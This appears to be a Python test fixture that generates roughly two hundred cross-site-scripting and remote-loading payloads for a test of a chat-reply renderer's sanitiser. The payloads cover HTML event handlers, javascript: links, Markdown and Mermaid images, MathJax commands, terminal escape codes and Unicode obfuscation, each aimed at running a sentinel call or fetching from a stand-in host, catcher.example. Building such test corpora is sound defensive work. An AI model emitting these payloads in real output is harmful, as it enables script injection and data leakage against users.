"""Some two hundred replies that try to run `ran()` or to ask CATCHER for something, in every writing we know of.

Twenty ways to run or to load, each put bare and into what Markdown, formulas, code and widgets make of text.
"""

from __future__ import annotations

CATCHER = "https://catcher.example"
"""Nobody may be asked for anything here."""
SENTINEL = "ran()"
"""What none of them may call."""

_HTML = (
    f"<script>{SENTINEL}</script>",
    f"<script src='{CATCHER}/a.js'></script>",
    f"<script type=module>import '{CATCHER}/b.js'</script>",
    f"<img src='{CATCHER}/c.png' onerror='{SENTINEL}'>",
    f"<img srcset='{CATCHER}/d.png 2x' loading=eager>",
    f"<svg onload='{SENTINEL}'><image href='{CATCHER}/e.svg'/><use href='{CATCHER}/f.svg#g'/></svg>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{SENTINEL}'>x</maction></math>",
    f"<style>@import '{CATCHER}/g.css'; * {{ background: url({CATCHER}/h.png) }}</style>",
    f"<div style=\"background:url('{CATCHER}/i.png');position:fixed;inset:0\">over all</div>",
    f"<iframe src='{CATCHER}/j' srcdoc='<script>parent.{SENTINEL}</script>'></iframe>",
    f"<object data='{CATCHER}/k'></object><embed src='{CATCHER}/l'>",
    f"<video poster='{CATCHER}/m.png' autoplay><source src='{CATCHER}/n.mp4' onerror='{SENTINEL}'></video>",
    f"<audio src='{CATCHER}/o.mp3' autoplay onerror='{SENTINEL}'></audio>",
    f"<link rel=stylesheet href='{CATCHER}/p.css'><link rel=preload as=image href='{CATCHER}/q.png'>",
    f"<meta http-equiv=refresh content='0;url={CATCHER}/r'><base href='{CATCHER}/'>",
    f"<form action='{CATCHER}/s'><input autofocus onfocus='{SENTINEL}'><button>Go on</button></form>",
    f"<details open ontoggle='{SENTINEL}'><summary>x</summary>y</details>",
    f"<body onload='{SENTINEL}' background='{CATCHER}/t.png'><marquee onstart='{SENTINEL}'>x</marquee>",
    f"<table background='{CATCHER}/u.png'><td background='{CATCHER}/v.png'>x</td></table>",
    f"<a href='javascript:{SENTINEL}' ping='{CATCHER}/w' autofocus onfocus='{SENTINEL}'>x</a>",
)
_MARKDOWN = (
    f"![x]({CATCHER}/md1.png)",
    f"![x]({CATCHER}/md2.png \"title' onerror='{SENTINEL}\")",
    f"![x][r]\n\n[r]: {CATCHER}/md3.png",
    f"![r]\n\n[r]: <{CATCHER}/md4.png>",
    f"[![x]({CATCHER}/md5.png)](javascript:{SENTINEL})",
    f"[x](javascript:{SENTINEL}) [y](JAVASCRIPT&colon;{SENTINEL}) [z](java&#x09;script:{SENTINEL})",
    f"[x](data:text/html,<script>{SENTINEL}</script>)",
    f"![x](data:image/svg+xml,<svg/onload={SENTINEL}>)",
    f'<{CATCHER}/md6" onmouseover="{SENTINEL}>',
    f"{CATCHER}/md7.png",
    f'[x]({CATCHER}/md8 "x"){{onmouseover={SENTINEL}}}',
    f"![x]({CATCHER}/md9.png){{width=1 onerror={SENTINEL}}}",
    f"[^1]\n\n[^1]: ![x]({CATCHER}/md10.png)",
    f'::: {{.x style="background:url({CATCHER}/md11)"}}\n![x]({CATCHER}/md12.png)\n:::',
    f"--- \ntitle: <script>{SENTINEL}</script>\n---",
    f"%%javascript\n{SENTINEL}",
    f"%%html\n<script>{SENTINEL}</script>",
)
_CODE = (
    f"```html\n<img src={CATCHER}/code1.png onerror={SENTINEL}>\n```",
    f"```mermaid\ngraph TD; a[<img src='{CATCHER}/code2.png' onerror='{SENTINEL}'>]-->b\n```",
    f'```mermaid\ngraph TD; a-->b; click a href "javascript:{SENTINEL}"\n```',
    f'```vega-lite\n{{"data": {{"url": "{CATCHER}/code3.json"}}, "mark": "bar"}}\n```',
    f'```geojson\n{{"type": "Feature", "url": "{CATCHER}/code4"}}\n```',
    f'```python" onmouseover="{SENTINEL}\nx = 1\n```',
    f"```{{=html}}\n<script>{SENTINEL}</script>\n```",
    f"`</code><script>{SENTINEL}</script>`",
    f"~~~\n</pre></code><script>{SENTINEL}</script>\n~~~",
    f"```\n</script><script>{SENTINEL}</script>",
    f"    </code></pre><img src={CATCHER}/code5.png>",
)
_FORMULAS = (
    rf"$\href{{javascript:{SENTINEL}}}{{x}}$",
    rf"$$\style{{background:url({CATCHER}/tex1.png)}}{{x}}$$",
    r"\(\class{jsm-card}{\cssId{main}{x}}\)",
    rf"$\require{{html}}\data{{x={CATCHER}}}{{x}}$",
    rf"$\require{{{CATCHER}/tex2.js}}x$",
    rf"$\includegraphics{{{CATCHER}/tex3.png}}$",
    rf"$\unicode[x' onload='{SENTINEL}]{{65}}$",
    rf"$\mmlToken{{mi}}[href='javascript:{SENTINEL}']{{x}}$",
    rf"$\text{{<img src={CATCHER}/tex4.png onerror={SENTINEL}>}}$",
    rf"\begin{{equation}}\label{{x}}\url{{{CATCHER}/tex5}}\end{{equation}}",
    r"$\def\x{\x\x}\x$",
    "$" + r"\frac{1}{" * 40 + "x" + "}" * 40 + "$",
    "$" + "{" * 2_000 + "x" + "}" * 2_000 + "$",
)
_SIGNS = (
    f"\x1b]8;;{CATCHER}/osc\x07click\x1b]8;;\x07\x1b[2J\x1b]52;c;aGk=\x07",
    f"\x9d8;;{CATCHER}\x9cx \x90q\x9c",
    f"<scr\x00ipt>{SENTINEL}</scr\x00ipt> <scr\u200bipt>{SENTINEL}</scr\u200bipt>",
    f"\u202e<tpircs/>{SENTINEL}<tpircs>\u202c",
    f"＜script＞{SENTINEL}＜/script＞",
    f"&lt;script&gt;{SENTINEL}&lt;/script&gt; &amp;lt;img src={CATCHER}/ent.png&amp;gt;",
    f"<scr<script>ipt>{SENTINEL}</scr</script>ipt>",
    "\ud83d<script>" + SENTINEL,
    "a\rb\x08\x08<script>" + SENTINEL + "</script>",
    "".join(chr(0xE0000 + ord(sign)) for sign in f"see {CATCHER}"),
)
_LONG = (
    "> " * 300 + f"<script>{SENTINEL}</script>",
    "* " * 200 + f"![x]({CATCHER}/deep.png)",
    "[" * 1_000 + f"x]({CATCHER}/open)",
    "<b>" * 1_000 + f"<img src={CATCHER}/nested.png>",
    "|a" * 200 + "\n" + "|-" * 200 + "\n" + f"|<img src={CATCHER}/cell.png>" * 200,
    f"![x]({CATCHER}/many.png)" * 200,
    "*_" * 1_000 + f"<script>{SENTINEL}</script>",
    "<!--" * 300 + f"--><script>{SENTINEL}</script>",
)
_CARRIERS = (
    "{}",
    "- item\n  - {}\n",
    "| a | b |\n|---|---|\n| {} | x |",
    "> quoted\n>\n> {}",
    "Text before {} and after, **bold {} text**.",
)


def _in(carrier: str, text: str) -> str:
    return carrier.replace("{}", " ".join(text.splitlines()) if carrier != "{}" else text)


REPLIES = tuple(
    dict.fromkeys(
        [_in(carrier, text) for text in _HTML for carrier in _CARRIERS]
        + [_in(carrier, text) for text in _MARKDOWN for carrier in _CARRIERS[:3]]
        + [*_CODE, *_FORMULAS, *_SIGNS, *_LONG]
    )
)
